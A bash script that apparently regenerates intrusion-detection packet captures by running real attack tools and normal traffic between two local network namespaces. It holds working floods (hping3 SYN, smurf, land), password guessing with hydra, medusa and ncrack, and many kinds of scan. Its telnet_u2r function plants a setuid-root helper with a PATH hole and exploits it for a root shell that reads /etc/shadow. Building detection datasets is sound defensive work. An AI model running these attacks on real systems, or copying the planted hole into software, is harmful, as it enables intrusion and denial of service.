#!/usr/bin/env bash
# Regenerates pcaps/realtools/*.pcap: real attack tools against real servers, between two
# network namespaces made here (kdd-atk 10.200.0.1, kdd-srv 10.200.0.2 and .10-.70), captured
# with tcpdump on the server side. Every flood is bounded by a packet count. Needs root and:
#   apt-get install hping3 nmap hydra vsftpd nginx dnsmasq opensmtpd swaks busybox-static lftp \
#                   curl openssl bind9-dnsutils tcpdump iproute2 openssh-server sshpass masscan \
#                   dovecot-pop3d dovecot-imapd slowhttptest iputils-ping dirb \
#                   apache2-utils medusa ncrack avahi-daemon samba-common-bin gupnp-tools chromium \
#                   zmap fping snmpd snmp gcc \
#                   python3-scapy|pip scapy
# ftp_guess_proftpd needs proftpd-core in vsftpd's place (the packages conflict): run it alone.
set -euo pipefail
HERE="$(cd "$(dirname "$0")" && pwd)"
OUT="${OUT:-$HERE/realtools}"  # OUT=DIR ONLY="name ..." for a trial run
WORK="$(mktemp -d /tmp/kdd-capture.XXXXXX)"
ATK=kdd-atk
SRV=kdd-srv
A=10.200.0.1
S=10.200.0.2
S6=fd00:200::2  # IPv6 on the same link (attacker fd00:200::1)
PY="${PYTHON:-python3}"
HELPER=/usr/local/sbin/kdd-backup-helper  # telnet_u2r's setuid-root victim, removed on exit
mkdir -p "$OUT"

cleanup() {
    set +e
    for pidfile in "$WORK"/*.pid; do [ -f "$pidfile" ] && kill "$(cat "$pidfile")" 2>/dev/null; done
    pkill -x nginx 2>/dev/null; pkill -x dnsmasq 2>/dev/null; pkill -x smtpd 2>/dev/null
    rm -f "$HELPER"; rm -rf /home/alice/.k
    ip netns del $ATK 2>/dev/null
    ip netns del $SRV 2>/dev/null
    rm -rf "$WORK"
}
trap cleanup EXIT

in_atk() { ip netns exec $ATK "$@"; }
in_srv() { ip netns exec $SRV "$@"; }

setup_network() {
    ip netns add $ATK
    ip netns add $SRV
    ip link add veth-atk netns $ATK type veth peer name veth-srv netns $SRV
    in_atk ip addr add $A/24 dev veth-atk
    in_srv ip addr add $S/24 dev veth-srv
    for i in $(seq 10 70); do in_srv ip addr add 10.200.0.$i/32 dev veth-srv; done
    in_atk ip -6 addr add fd00:200::1/64 dev veth-atk nodad
    in_srv ip -6 addr add $S6/64 dev veth-srv nodad
    in_atk ip link set veth-atk up
    in_srv ip link set veth-srv up
    in_atk ip link set lo up
    in_srv ip link set lo up
    # No offloads: the capture shows packets as they are on the wire.
    for ns in $ATK $SRV; do
        ip netns exec $ns ethtool -K "veth-${ns#kdd-}" tso off gso off gro off 2>/dev/null || true
    done
    in_atk hping3 -1 -c 1 $S >/dev/null 2>&1 || true
}

setup_accounts() {
    id alice >/dev/null 2>&1 || useradd -m -s /bin/sh alice
    echo "alice:wonderland-7" | chpasswd
    mkdir -p /srv/ftp/pub "$WORK/www"
    head -c 200000 /dev/urandom > /srv/ftp/pub/release.tar.gz
    echo "readme" > /srv/ftp/pub/README
    for p in index about news contact docs faq blog shop login search; do
        printf '<html><head><title>%s</title></head><body>%s %s</body></html>\n' \
            "$p" "$p" "$(head -c 1500 /dev/urandom | base64 -w0)" > "$WORK/www/$p.html"
    done
    echo '<html><body>ok</body></html>' > "$WORK/www/status.html"  # the HTTP flood's target
    mkdir -p "$WORK/www/upload" && chmod 777 "$WORK/www/upload"
    seq 1 40 | sed 's/^/guess/' > "$WORK/words.txt"
    seq 1 200 | sed 's/^/pw/' > "$WORK/words200.txt"
    mkdir -p /srv/mail/alice
    for i in 1 2 3; do
        printf 'From bob@example.test Mon Nov 23 10:0%s:00 2026\nFrom: bob@example.test\nTo: alice@example.test\nSubject: minutes %s\n\n%s\n\n' \
            "$i" "$i" "$(head -c 3000 /dev/urandom | base64 -w 76)"
    done > /srv/mail/alice/inbox
    chown -R alice: /srv/mail/alice
}

start_servers() {
    openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=$S" \
        -keyout "$WORK/tls.key" -out "$WORK/tls.crt" 2>/dev/null
    cat > "$WORK/nginx.conf" <<EOF
daemon off; worker_processes 1; pid $WORK/nginx.pid; error_log $WORK/nginx.err;
events {}
http { access_log off; client_max_body_size 10m;
       server { listen $S:80; listen [$S6]:80; root $WORK/www;
                location /upload/ { dav_methods PUT; } }
       server { listen $S:443 ssl; ssl_certificate $WORK/tls.crt;
                ssl_certificate_key $WORK/tls.key; root $WORK/www; } }
EOF
    ip netns exec $SRV nginx -c "$WORK/nginx.conf" &
    cat > "$WORK/vsftpd.conf" <<EOF
listen=YES
listen_address=$S
anonymous_enable=YES
anon_root=/srv/ftp
local_enable=YES
write_enable=YES
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
seccomp_sandbox=NO
background=NO
EOF
    mkdir -p /var/run/vsftpd/empty
    if command -v vsftpd >/dev/null; then
        ip netns exec $SRV vsftpd "$WORK/vsftpd.conf" & echo $! > "$WORK/vsftpd.pid"
    fi
    ip netns exec $SRV dnsmasq -k --no-resolv --no-hosts --listen-address=$S --bind-interfaces \
        --address=/example.test/$S --pid-file="$WORK/dnsmasq.pid" &
    # busybox-static's telnetd: inetutils telnetd under inetd exits during option negotiation
    # in a namespace, before any login prompt.
    ip netns exec $SRV busybox telnetd -F -p 23 -b $S -l /bin/login & echo $! > "$WORK/telnetd.pid"
    cat > "$WORK/smtpd.conf" <<EOF
listen on $S
action "deliver" mbox
match from any for any action "deliver"
EOF
    mkdir -p /var/spool/smtpd && chmod 711 /var/spool/smtpd
    ip netns exec $SRV smtpd -d -f "$WORK/smtpd.conf" >/dev/null 2>&1 & echo $! > "$WORK/smtpd.pid"
    ssh-keygen -q -t ed25519 -N "" -f "$WORK/ssh_host_key"
    mkdir -p /run/sshd
    ip netns exec $SRV /usr/sbin/sshd -D -h "$WORK/ssh_host_key" -o ListenAddress=$S \
        -o PasswordAuthentication=yes -o PidFile="$WORK/sshd.pid" & echo $! > "$WORK/sshd.pid"
    mkdir -p /run/kdd-dovecot
    echo "alice:{PLAIN}wonderland-7" > "$WORK/dovecot.users"
    chmod 644 "$WORK/dovecot.users"; chmod 711 "$WORK"
    cat > "$WORK/dovecot.conf" <<EOF
base_dir = /run/kdd-dovecot
protocols = pop3 imap
listen = $S
ssl = no
disable_plaintext_auth = no
log_path = $WORK/dovecot.log
mail_location = mbox:/srv/mail/%u:INBOX=/srv/mail/%u/inbox
passdb {
  driver = passwd-file
  args = scheme=PLAIN $WORK/dovecot.users
}
userdb {
  driver = static
  args = uid=alice gid=alice home=/srv/mail/%u
}
EOF
    ip netns exec $SRV dovecot -F -c "$WORK/dovecot.conf" & echo $! > "$WORK/dovecot.pid"
    sleep 2
}

capture() {  # capture NAME COMMAND...: tcpdump on the server side while COMMAND runs
    local name=$1; shift
    if [ -n "${ONLY:-}" ] && [[ " $ONLY " != *" $name "* ]]; then return; fi
    ip netns exec $SRV tcpdump -i veth-srv -s 0 -U -w "$OUT/$name.pcap" -Z root not arp \
        2>/dev/null &
    local dump=$!  # ip netns exec execs tcpdump: this is tcpdump's pid
    sleep 1
    "$@" || true
    sleep 3  # let closing packets and late replies arrive
    kill $dump; wait $dump 2>/dev/null || true
    echo "$name: $(tcpdump -n -r "$OUT/$name.pcap" 2>/dev/null | wc -l) packets"
}

normal_web() { for p in index about news contact docs faq blog shop login search missing; do
    in_atk curl -s -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0" "http://$S/$p.html"
    sleep 0.3; done; }
normal_https() { for p in index about news contact docs faq blog shop login search missing; do
    in_atk curl -sk -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0" "https://$S/$p.html"
    in_atk curl -sk --tls-max 1.2 -o /dev/null "https://$S/$p.html"
    sleep 0.3; done; }
normal_dns() { for n in www mail ftp ns1 api cdn shop blog; do
    in_atk dig +short +tries=1 +time=2 @$S "$n.example.test" A >/dev/null
    in_atk dig +short +tries=1 +time=2 @$S "$n.example.test" AAAA >/dev/null; sleep 0.2; done; }
normal_smtp() { for i in 1 2 3 4 5; do
    in_atk swaks --server $S --from "user$i@example.test" --to root@example.test \
        --header "Subject: report $i" --body "Weekly report $i" >/dev/null; sleep 0.5; done; }
normal_ftp() { for i in 1 2 3; do
    in_atk lftp -e "set ftp:passive-mode on; ls pub; get pub/README -o $WORK/r$i; get pub/release.tar.gz -o $WORK/t$i; bye" \
        -u anonymous,guest@example.test ftp://$S >/dev/null; sleep 1; done; }
normal_ftp_user() { for i in 1 2 3; do  # a regular account: list, upload, download, list
    echo "notes $i" > "$WORK/up$i.txt"
    in_atk lftp -e "set ftp:passive-mode on; ls; put $WORK/up$i.txt -o up$i.txt; get up$i.txt -o $WORK/down$i; ls; bye" \
        -u alice,wonderland-7 ftp://$S >/dev/null; sleep 1; done; }
normal_dns_tcp() { for n in www mail ftp; do
    in_atk dig +tcp +short @$S "$n.example.test" A >/dev/null; sleep 0.3; done; }
normal_ftp_active() { for i in 1 2 3; do
    in_atk lftp -e "set ftp:passive-mode off; ls pub; get pub/README -o $WORK/r$i; get pub/release.tar.gz -o $WORK/t$i; bye" \
        -u anonymous,guest@example.test ftp://$S >/dev/null; sleep 1; done; }
SSH_OPTS="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
normal_ssh() { for i in 1 2 3; do
    in_atk sshpass -p wonderland-7 ssh $SSH_OPTS alice@$S 'uname -a; ls -la; df -h; id' >/dev/null
    in_atk sshpass -p wonderland-7 scp $SSH_OPTS alice@$S:/srv/ftp/pub/release.tar.gz "$WORK/s$i"
    printf 'ls /srv/ftp/pub\nsleep 1\nexit\n' | in_atk sshpass -p wonderland-7 ssh -tt $SSH_OPTS alice@$S >/dev/null
    sleep 1; done; }
telnet_alice() { in_atk "$PY" "$HERE/telnet_session.py" $S alice wonderland-7 "$@"; }  # COMMAND...
normal_telnet() { for i in 1 2 3; do
    telnet_alice "ls -la" "cat /etc/hostname" \
        "ps" "df" "uptime"; sleep 1; done; }
normal_pop3() { for i in 1 2 3; do
    in_atk curl -s -o /dev/null "pop3://alice:wonderland-7@$S/"
    in_atk curl -s -o /dev/null "pop3://alice:wonderland-7@$S/$i"
    sleep 1; done; }
normal_imap() { for i in 1 2 3; do
    in_atk curl -s -o /dev/null "imap://alice:wonderland-7@$S/INBOX"
    in_atk curl -s -o /dev/null "imap://alice:wonderland-7@$S/INBOX;UID=$i"
    sleep 1; done; }
imap_guess() { in_atk hydra -l alice -P "$WORK/words.txt" -t 4 -W 1 -f "imap://$S" >/dev/null 2>&1; }
pop3_guess() { in_atk hydra -l alice -P "$WORK/words.txt" -t 4 -W 1 -f "pop3://$S" >/dev/null 2>&1; }
scan_filtered() {  # the server's answers go nowhere: a host behind a dropping firewall
    in_srv ip route add blackhole $A/32
    in_atk nmap -n -Pn -sS -T4 --max-retries 1 -p 1-1000 $S >/dev/null
    in_srv ip route del blackhole $A/32; }
ssh_guess() { in_atk hydra -l alice -P "$WORK/words.txt" -t 4 -W 1 -f "ssh://$S" >/dev/null 2>&1; }
syn_flood() { in_atk hping3 -S --rand-source -p 80 -i u40 -c 20000 $S 2>/dev/null; }
syn_flood_one_source() { in_atk hping3 -S -p 80 -i u40 -c 5000 $S 2>/dev/null; }
masscan_scan() {  # masscan has its own stack: it is told the interface and the next hop's MAC
    in_atk masscan -p 1-2000 --rate 5000 --wait 2 -e veth-atk --adapter-ip $A \
        --router-mac "$(in_srv cat /sys/class/net/veth-srv/address)" $S >/dev/null 2>&1; }
port_scan() { in_atk nmap -n -Pn -sS -T4 -p 1-1000 $S >/dev/null; }
nmap_scan() { in_atk nmap -n -Pn -T4 "$@" $S >/dev/null; }  # nmap_scan OPTIONS...
udp_flood() { in_atk hping3 --udp -p 53 -i u100 -c 5000 $S 2>/dev/null; }
ping_flood() { in_atk hping3 -1 -i u100 -c 5000 $S 2>/dev/null; }
ping_f() { in_atk ping -f -c 1000 $S >/dev/null; }  # iputils' flood: 56 data bytes, as fast as answered
slowloris() {  # slowhttptest -H: 100 connections sending a header line every 5 s, for 20 s
    in_atk timeout 40 slowhttptest -H -c 100 -r 50 -i 5 -l 20 -u "http://$S/index.html" \
        >/dev/null 2>&1; }
icmp_sweep() { in_atk nmap -n -sn -PE --send-ip 10.200.0.10-70 >/dev/null; }
smurf() { in_atk hping3 -1 -C 0 -K 0 -d 1000 --rand-source -i u400 -c 3000 $S 2>/dev/null; }
land() { in_atk hping3 -S -a $S -s 23 -k -p 23 -c 5 -i u200000 $S 2>/dev/null; }
ftp_guess() { in_atk hydra -l alice -P "$WORK/words.txt" -t 4 -W 1 -f "ftp://$S" >/dev/null 2>&1; }
telnet_guess() { in_atk hydra -l alice -P "$WORK/words.txt" -t 2 -W 1 -f "telnet://$S" >/dev/null 2>&1; }
normal_http_upload() { for i in 1 2 3; do  # WebDAV PUT of 60 kB files
    head -c 60000 /dev/urandom > "$WORK/u$i.bin"
    in_atk curl -s -o /dev/null -T "$WORK/u$i.bin" "http://$S/upload/u$i.bin"; sleep 0.5; done; }
normal_unanswered() {  # a client trying a server whose answers are dropped: HTTPS, SSH, SMTP
    in_srv ip route add blackhole $A/32
    for i in 1 2; do
        in_atk curl -sk --connect-timeout 3 -o /dev/null "https://$S/" || true
        in_atk ssh $SSH_OPTS -o ConnectTimeout=3 -o BatchMode=yes alice@$S true 2>/dev/null || true
        in_atk swaks --server $S --timeout 3 --to root@example.test >/dev/null 2>&1 || true
    done
    in_srv ip route del blackhole $A/32; }
normal_mixed() {  # one workstation's half minute: web, mail, DNS, FTP, SSH interleaved
    local i pids  # wait on these only: tcpdump runs in the background of this shell too
    for i in 1 2 3 4; do
        pids=()
        in_atk dig +short @$S "www.example.test" A >/dev/null & pids+=($!)
        in_atk curl -s -o /dev/null "http://$S/index.html" "http://$S/news.html" & pids+=($!)
        in_atk curl -sk -o /dev/null "https://$S/blog.html" & pids+=($!)
        in_atk curl -s -o /dev/null "imap://alice:wonderland-7@$S/INBOX" & pids+=($!)
        wait "${pids[@]}"
        in_atk curl -s -o /dev/null "pop3://alice:wonderland-7@$S/"
        pids=()
        in_atk swaks --server $S --from "alice@example.test" --to root@example.test \
            --header "Subject: note $i" --body "note $i" >/dev/null & pids+=($!)
        in_atk lftp -e "set ftp:passive-mode on; get pub/README -o $WORK/m$i; bye" \
            -u anonymous,guest@example.test ftp://$S >/dev/null & pids+=($!)
        in_atk sshpass -p wonderland-7 ssh $SSH_OPTS alice@$S 'uptime' >/dev/null & pids+=($!)
        wait "${pids[@]}"
        sleep 2
    done; }
scan_ipv6() { in_atk nmap -6 -n -Pn -sS -T4 -p 1-1000 $S6 >/dev/null; }
normal_web_ipv6() { for p in index about news contact; do
    in_atk curl -s -o /dev/null "http://[$S6]/$p.html"; sleep 0.3; done; }
web_dirb() {  # dirb with the first 300 words of its small list against nginx, over keep-alive
    head -300 /usr/share/dirb/wordlists/small.txt > "$WORK/dirb.txt"
    in_atk timeout 120 dirb "http://$S/" "$WORK/dirb.txt" -S -r >/dev/null 2>&1; }
normal_telnet_dev() {  # telnet_u2r's steps without the root shell: a user writes, builds
    # and runs a small program, then tidies up
    for i in 1 2; do
        telnet_alice "id" "mkdir -p ~/.k" "cd ~/.k" \
            "printf '#include <stdio.h>\\nint main(void) { puts(\"hello\"); return 0; }\\n' > hello.c" \
            "gcc -o hello hello.c" "./hello" "chmod +x hello" "ls -la" "wc -l hello.c" "cd; rm -rf ~/.k"
        sleep 1; done; }
web_back() {  # DARPA's back: requests of 54,000 slashes (NSL-KDD's back rows send 54,540 bytes),
    # 3 clients, 4 each; nginx answers 414 (URI too long) as a patched Apache would
    local url="http://$S/$(head -c 54000 /dev/zero | tr '\0' /)"
    for c in 1 2 3; do
        (for i in $(seq 4); do in_atk curl -s --path-as-is -o /dev/null "$url"; sleep 0.3; done) &
    done; wait; }
http_flood() { in_atk ab -n 1000 -c 50 "http://$S/status.html" >/dev/null 2>&1; }  # a GET per connection
medusa_ftp() { in_atk timeout 120 medusa -h $S -u alice -P "$WORK/words.txt" -M ftp -t 4 -f >/dev/null 2>&1; }
ncrack_ftp() { in_atk timeout 120 ncrack --user alice -P "$WORK/words.txt" ftp://$S >/dev/null 2>&1; }
ncrack_telnet() { in_atk timeout 120 ncrack --user alice -P "$WORK/words.txt" telnet://$S >/dev/null 2>&1; }
normal_lan() {  # a workstation joining the LAN: DHCP, mDNS (avahi), LLMNR, NetBIOS, SSDP, web
    local dhcp avahi p
    in_atk ip route add 224.0.0.0/4 dev veth-atk
    in_srv dnsmasq -k --port=0 --interface=veth-srv --bind-interfaces \
        --dhcp-range=10.200.0.100,10.200.0.150,1h --dhcp-leasefile="$WORK/leases" \
        --pid-file="$WORK/dhcp.pid" & dhcp=$!
    sleep 1
    in_atk busybox udhcpc -i veth-atk -n -q -f -s /bin/true >/dev/null 2>&1 || true
    printf '[server]\nhost-name=workstation\nallow-interfaces=veth-atk\nenable-dbus=no\n' \
        > "$WORK/avahi.conf"
    in_atk avahi-daemon -f "$WORK/avahi.conf" --no-drop-root --no-chroot --no-rlimits \
        >/dev/null 2>&1 & avahi=$!
    sleep 3
    in_atk dig +tries=1 +timeout=2 -p 5353 @224.0.0.251 fileserver.local A >/dev/null || true
    in_atk dig +tries=1 +timeout=2 -p 5355 @224.0.0.252 wpad A >/dev/null || true
    in_atk nmblookup -B 10.200.0.255 FILESERVER >/dev/null 2>&1 || true
    in_atk timeout 10 gssdp-discover -i veth-atk --timeout=3 >/dev/null 2>&1 || true
    for p in index about news; do in_atk curl -s -o /dev/null "http://$S/$p.html"; sleep 0.5; done
    kill $avahi $dhcp; wait $avahi $dhcp 2>/dev/null || true
    in_atk ip route del 224.0.0.0/4 dev veth-atk; }
portsweep() {  # nmap -sS: 10 well-known ports on each of 31 addresses
    in_atk nmap -n -Pn -sS -T4 -p 21,22,23,25,80,110,111,143,443,3306 10.200.0.10-40 >/dev/null; }
scan_slow() { in_atk nmap -n -Pn -sS -T2 -p 1-60 $S >/dev/null; }  # 0.4 s between probes
ftp_guess_many() {  # hydra's default 16 tasks, 200 passwords: vsftpd resets after 3 failures
    in_atk hydra -l alice -P "$WORK/words200.txt" -f "ftp://$S" >/dev/null 2>&1; }
normal_keepalive() {  # browser-like headers, 60 pages over one keep-alive connection
    local urls=() i p
    for i in $(seq 1 12); do
        for p in index about news contact docs; do urls+=("http://$S/$p.html?v=$i"); done
    done
    in_atk curl -s -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" \
        -H "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8" \
        -H "Accept-Language: en-US,en;q=0.5" -H "Accept-Encoding: gzip, deflate" \
        -H "Cookie: session=3f9a0c1e7b2d4a5f8e6c9b1a0d2e3f4a; theme=dark; consent=yes" "${urls[@]}"; }
normal_browser() {  # headless Chromium reading 5 pages of a site (a stylesheet, 2 scripts and
    # 12 images a page, shared), its cache kept between pages, a few seconds' reading each
    local site="$WORK/www/site" i p
    mkdir -p "$site"
    head -c 30000 /dev/urandom | base64 -w 100 | sed 's/^/\/* /; s/$/ *\//' > "$site/style.css"
    for i in 1 2; do head -c 60000 /dev/urandom | base64 -w 100 | sed 's/^/\/\/ /' > "$site/app$i.js"; done
    for i in $(seq 1 24); do head -c $((2000 + i * 2500)) /dev/urandom > "$site/img$i.jpg"; done
    for p in 1 2 3 4 5; do
        { echo "<html><head><link rel=stylesheet href=style.css><script src=app1.js></script>"
          echo "<script src=app2.js></script></head><body><h1>page $p</h1>"
          for i in $(seq $((p * 3 - 2)) $((p * 3 + 9))); do echo "<img src=img$i.jpg>"; done
          echo "<p>$(head -c 3000 /dev/urandom | base64 -w0)</p><a href=page$((p + 1)).html>next</a>"
          echo "</body></html>"; } > "$site/page$p.html"
    done
    for p in 1 2 3 4 5; do
        in_atk timeout 60 chromium --headless --no-sandbox --disable-gpu --no-first-run \
            --user-data-dir="$WORK/chromium" --virtual-time-budget=5000 --dump-dom \
            "http://$S/site/page$p.html" >/dev/null 2>&1
        sleep 3
    done; }
zmap_sweep() {  # zmap's SYN probes to port 80 of 128 addresses (its own stack, like masscan)
    local mac
    mac=$(in_srv cat /sys/class/net/veth-srv/address)
    in_atk zmap -q -p 80 -i veth-atk -G "$mac" -S $A -b /dev/null --rate 2000 \
        -c 3 -o /dev/null 10.200.0.0/25 >/dev/null 2>&1; }
normal_snmp() {  # a monitoring station polling net-snmp's snmpd: a walk of the system
    # group, then a few gets, three times a few seconds apart
    local agent
    printf 'agentAddress udp:%s:161\nrocommunity public\n' "$S" > "$WORK/snmpd.conf"
    in_srv snmpd -f -Lo -C -c "$WORK/snmpd.conf" >/dev/null 2>&1 & agent=$!
    sleep 2
    for i in 1 2 3; do
        in_atk snmpwalk -v2c -c public $S 1.3.6.1.2.1.1 >/dev/null 2>&1 || true
        in_atk snmpget -v2c -c public $S 1.3.6.1.2.1.1.3.0 1.3.6.1.2.1.2.1.0 >/dev/null 2>&1 || true
        sleep 3
    done
    kill $agent; wait $agent 2>/dev/null || true; }
fping_sweep() { in_atk fping -q -a -r 0 -g 10.200.0.0/25 >/dev/null 2>&1 || true; }
ftp_guess_proftpd() {  # hydra's defaults against ProFTPD, 3 logins a session. proftpd-core
    # replaces vsftpd when installed: run this capture alone (ONLY=ftp_guess_proftpd).
    printf '%s\n' "ServerType standalone" "Port 21" "DefaultAddress $S" "User nobody" \
        "Group nogroup" "PidFile $WORK/proftpd.pid" "ScoreboardFile $WORK/proftpd.scoreboard" \
        "DelayTable none" "UseIPv6 off" "WtmpLog off" "MaxLoginAttempts 3" > "$WORK/proftpd.conf"
    in_srv proftpd -n -q -c "$WORK/proftpd.conf" >/dev/null 2>&1 & local proftpd=$!
    sleep 2
    ftp_guess_many
    kill $proftpd; wait $proftpd 2>/dev/null || true; }
fragments() { in_atk "$PY" "$HERE/send_fragments.py" "$1" $S; }
telnet_u2r() {  # a user logs in over telnet, compiles an exploit, gains a root shell and looks
    # around as root. The hole, planted here: a setuid-root backup helper running `tar` through
    # system() with the caller's PATH (the environment class of DARPA's loadmodule, an IFS attack).
    printf '#include <stdlib.h>\n#include <unistd.h>\nint main(void) { if (setuid(0) || setgid(0)) return 1;\n  return system("tar -czf /tmp/kdd-backup.tgz /srv/ftp/pub 2>/dev/null"); }\n' \
        > "$WORK/helper.c"
    gcc -o "$HELPER" "$WORK/helper.c" && chmod 4755 "$HELPER"
    for i in 1 2; do
        telnet_alice "id" "mkdir -p ~/.k" "cd ~/.k" \
            "printf '#!/bin/sh\\nexec /bin/sh -i 2>&1\\n' > tar" "chmod +x tar" \
            "printf '#include <stdlib.h>\\n#include <unistd.h>\\nint main(void) { setenv(\"PATH\", \"/home/alice/.k:/usr/bin:/bin\", 1); execl(\"$HELPER\", \"h\", (char *)0); return 1; }\\n' > x.c" \
            "gcc -o x x.c" "./x" "id" "wc -l /etc/shadow" "ls -ld /root" "exit" "cd; rm -rf ~/.k"
        sleep 1; done
    rm -f "$HELPER"; }

setup_network
setup_accounts
start_servers
capture normal_web normal_web
capture normal_https normal_https
capture normal_dns normal_dns
capture normal_smtp normal_smtp
capture normal_ftp normal_ftp
capture normal_ftp_active normal_ftp_active
capture normal_ftp_user normal_ftp_user
capture normal_dns_tcp normal_dns_tcp
capture synflood syn_flood
capture synflood_one_source syn_flood_one_source
capture portscan port_scan
capture masscan masscan_scan
capture icmpsweep icmp_sweep
capture smurf smurf
capture land land
capture teardrop fragments teardrop
capture pod fragments pod
capture normal_ssh normal_ssh
capture ftp_guess ftp_guess
capture ssh_guess ssh_guess
capture telnet_guess telnet_guess
capture normal_pop3 normal_pop3
capture normal_telnet normal_telnet
capture scan_filtered scan_filtered
capture pop3_guess pop3_guess
capture normal_imap normal_imap
capture imap_guess imap_guess
capture scan_connect nmap_scan -sT -p 1-1000
capture scan_fin nmap_scan -sF --top-ports 500
capture scan_xmas nmap_scan -sX --top-ports 500
capture scan_null nmap_scan -sN --top-ports 500
capture scan_ack nmap_scan -sA --top-ports 500
capture scan_udp nmap_scan -sU --top-ports 100
capture scan_os nmap_scan -O
capture udp_flood udp_flood
capture ping_flood ping_flood
capture scan_version nmap_scan -sV --top-ports 50
capture slowloris slowloris
capture ping_f ping_f
capture web_dirb web_dirb
capture normal_http_upload normal_http_upload
capture normal_unanswered normal_unanswered
capture normal_mixed normal_mixed
capture http_flood http_flood
capture medusa_ftp medusa_ftp
capture ncrack_ftp ncrack_ftp
capture ncrack_telnet ncrack_telnet
capture scan_ipv6 scan_ipv6
capture normal_web_ipv6 normal_web_ipv6
capture normal_lan normal_lan
capture scan_slow scan_slow
capture ftp_guess_many ftp_guess_many
capture normal_keepalive normal_keepalive
capture normal_browser normal_browser
capture zmap_sweep zmap_sweep
capture fping_sweep fping_sweep
capture normal_snmp normal_snmp
capture ftp_guess_proftpd ftp_guess_proftpd
capture scan_frag nmap_scan -sS -f -p 1-300
capture telnet_u2r telnet_u2r
capture web_back web_back
capture normal_telnet_dev normal_telnet_dev
capture portsweep portsweep
capture scan_decoy nmap_scan -sS -D 10.200.0.77,10.200.0.78,ME -p 1-300
